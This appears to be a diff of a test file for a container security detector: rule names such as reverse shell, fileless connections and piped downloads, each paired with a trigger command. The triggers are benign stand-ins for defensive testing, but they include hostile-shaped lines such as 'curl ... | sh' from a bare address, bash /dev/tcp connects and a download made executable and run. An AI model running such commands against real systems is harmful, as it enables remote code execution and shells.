@@ -2,10 +2,10 @@
 #also Executable run from a scratch folder
 #also File in a scratch folder made executable by hand
 #also Program in a scratch folder made executable, then run
+#also Transfer tool given a bare private address and a scratch folder
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/true; chmod +x /tmp/x; /tmp/x
 ## File dropped and executed in a container
-#also Right of root used for the first time by an image
 #also Suspicious Process Execution
 #in shop:1
 mkdir -p /srv/x; python3 -c 'import shutil; shutil.copy("/bin/true", "/srv/x/x")'; /srv/x/x
@@ -13,13 +13,12 @@ mkdir -p /srv/x; python3 -c 'import shutil; shutil.copy("/bin/true", "/srv/x/x")
 #also Reverse shell by bash's own network
 bash -c ': > /dev/tcp/203.0.113.9/443'
 ## Outbound connection from a container to the internet
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Suspicious Process Execution
 #in shop:1
 #setup listener 4444
 /opt/lab/connect tcp4 203.0.113.9 4444
 ## Download tool in a container
-#also Right of root used for the first time by an image
 #also Suspicious Process Execution
 #in shop:1
 curl -s http://10.9.8.7/
@@ -31,18 +30,17 @@ curl -s http://10.9.8.7/
 #also Hidden executable
 #setup mkdir -p /home/ann/.cache; cp /opt/lab/connect /home/ann/.cache/.thumbd
 /home/ann/.cache/.thumbd tcp4 203.0.113.9 443
-## Code without a file connects to the internet
-#also Code without a file connects to an address without a name
-python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'
+## Code without a file asks for a name of the internet
+#setup refuse_names; rm -f /etc/resolv.conf; echo 'nameserver 10.9.8.1' > /etc/resolv.conf
+python3 -c 'import socket
+try: socket.create_connection(("update.example", 80))
+except OSError: pass'
 ## Code without a file connects to the internet and runs commands
 #also Code without a file connects to an address without a name
-#also Code without a file connects to the internet
 perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:443"); system "id; :"'
 ## Code without a file waits for callers
 timeout 1 python3 -c 'import socket; socket.create_server(("", 2022)).accept()'
 ## Commands fetched from an unusual place
-#also Download beside an interpreter
-#also Download from an address without a name beside an interpreter
 #also Download run without being looked at
 #also Transfer tool given a bare address
 curl -s -m 1 http://203.0.113.9/a.sh | sh
